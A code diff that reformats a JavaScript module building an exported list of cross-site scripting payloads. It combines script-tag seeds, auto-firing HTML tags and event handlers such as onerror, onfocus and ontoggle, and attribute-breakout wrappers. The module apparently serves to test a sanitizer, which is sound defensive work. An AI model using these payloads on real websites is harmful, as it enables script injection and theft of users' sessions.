@@ -41,8 +41,34 @@ const seeds = [
   `%s%1$s<script>${call}</script>`,
   `[caption]<script>${call}</script>[/caption]`,
 ];
-const tags = ['img src=x', 'svg', 'body', 'video src=x', 'audio src=x', 'details open', 'input autofocus', 'select autofocus', 'textarea autofocus', 'marquee', 'style', 'iframe', 'object data=x', 'p tabindex=1 autofocus', 'x contenteditable autofocus tabindex=0'];
-const handlers = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onstart', 'onmouseover', 'onpageshow', 'onanimationstart', 'onbegin'];
+const tags = [
+  'img src=x',
+  'svg',
+  'body',
+  'video src=x',
+  'audio src=x',
+  'details open',
+  'input autofocus',
+  'select autofocus',
+  'textarea autofocus',
+  'marquee',
+  'style',
+  'iframe',
+  'object data=x',
+  'p tabindex=1 autofocus',
+  'x contenteditable autofocus tabindex=0',
+];
+const handlers = [
+  'onerror',
+  'onload',
+  'onfocus',
+  'ontoggle',
+  'onstart',
+  'onmouseover',
+  'onpageshow',
+  'onanimationstart',
+  'onbegin',
+];
 const wrappers = [
   (text) => text,
   (text) => `">${text}`,
@@ -51,7 +77,9 @@ const wrappers = [
   (text) => `</q></li>${text}`,
   (text) => `x\n${text}`,
 ];
-const attributes = ['"', "'", '` '].flatMap((quote) => handlers.map((handler) => `${quote} ${handler}=${call} autofocus tabindex=1 x=${quote}`));
+const attributes = ['"', "'", '` '].flatMap((quote) =>
+  handlers.map((handler) => `${quote} ${handler}=${call} autofocus tabindex=1 x=${quote}`),
+);
 
 export const payloads = [
   ...seeds,
